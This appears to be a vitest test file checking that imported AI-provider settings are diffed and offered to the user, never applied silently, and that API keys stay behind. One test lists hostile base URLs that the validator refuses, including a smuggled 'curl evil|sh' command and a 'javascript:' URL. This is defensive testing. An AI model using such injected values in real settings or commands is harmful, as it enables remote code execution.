import { describe, expect, it } from 'vitest';
import { applySettingsPatch } from './apply-settings-patch';
import { createLoupeStore } from './create-loupe-store';
import { diffImportedSettings } from './diff-imported-settings';
import { defaultSettings } from './settings';
import { FakeEngineClient } from './testing/fake-engine-client';
import { importedSettings } from './testing/imported-settings';
import { MemoryStorage } from './testing/memory-storage';

const mine = applySettingsPatch(defaultSettings, { provider: 'anthropic', apiKey: 'sk-ant-mine', model: 'claude-x' });
const theirs = importedSettings;

describe('imported settings are shown and offered, never adopted', () => {
  it('is null when the file was made with the same provider, model and base URL', () => {
    expect(diffImportedSettings(theirs({}), mine)).toBeNull();
  });

  it('lists each difference with both values and offers only what can be applied', () => {
    const offer = diffImportedSettings(
      theirs({ provider: 'openai-compatible', model: 'llama3.2', baseUrl: 'http://localhost:11434/v1' }),
      mine,
    );
    expect(offer?.differences).toEqual([
      { field: 'provider', theirs: 'openai-compatible', mine: 'anthropic' },
      { field: 'model', theirs: 'llama3.2', mine: 'claude-x' },
      { field: 'baseUrl', theirs: 'http://localhost:11434/v1', mine: 'https://api.openai.com/v1' },
    ]);
    expect(offer?.patch).toEqual({
      provider: 'openai-compatible',
      model: 'llama3.2',
      baseUrl: 'http://localhost:11434/v1',
    });
  });

  it.each([
    ['https://x; curl evil|sh; #', /spaces or control/],
    ['https://REDACTED@gw/v1', /redacted/],
    ['javascript:alert(1)', /not an http\(s\) URL/],
    ['not a url', /spaces|not a valid URL/],
  ])('refuses the base URL %j with its reason', (baseUrl, reason) => {
    const offer = diffImportedSettings(theirs({ baseUrl }), mine);
    expect(offer?.differences[0]).toMatchObject({
      field: 'baseUrl',
      refused: expect.stringMatching(reason) as unknown,
    });
    expect(offer?.patch).toEqual({});
  });

  it('changes nothing on import; "Use these settings" switches provider without carrying the key', () => {
    const storage = new MemoryStorage();
    const store = createLoupeStore(new FakeEngineClient(), { demoServerUrl: 'http://d/mcp', storage });
    store.getState().updateSettings({ provider: 'anthropic', apiKey: 'sk-ant-mine' });
    /** Offers a file's settings for an OpenAI-compatible gateway, against the store's settings as they are now. */
    const offerGateway = () =>
      store
        .getState()
        .offerImportedSettings(
          diffImportedSettings(
            theirs({ provider: 'openai-compatible', model: 'm', baseUrl: 'http://gw/v1' }),
            store.getState().settings,
          ),
        );
    offerGateway();
    expect(store.getState().settings).toMatchObject({ provider: 'anthropic', apiKey: 'sk-ant-mine' });
    store.getState().answerSettingsOffer('keep');
    expect(store.getState().settingsOffer).toBeNull();
    expect(store.getState().settings.provider).toBe('anthropic');

    offerGateway();
    store.getState().answerSettingsOffer('apply');
    expect(store.getState().settings).toMatchObject({
      provider: 'openai-compatible',
      model: 'm',
      baseUrl: 'http://gw/v1',
      apiKey: '',
    });
    expect(store.getState().settings.credentials.anthropic).toMatchObject({
      apiKey: 'sk-ant-mine',
      baseUrl: 'https://api.anthropic.com',
    });
  });
});
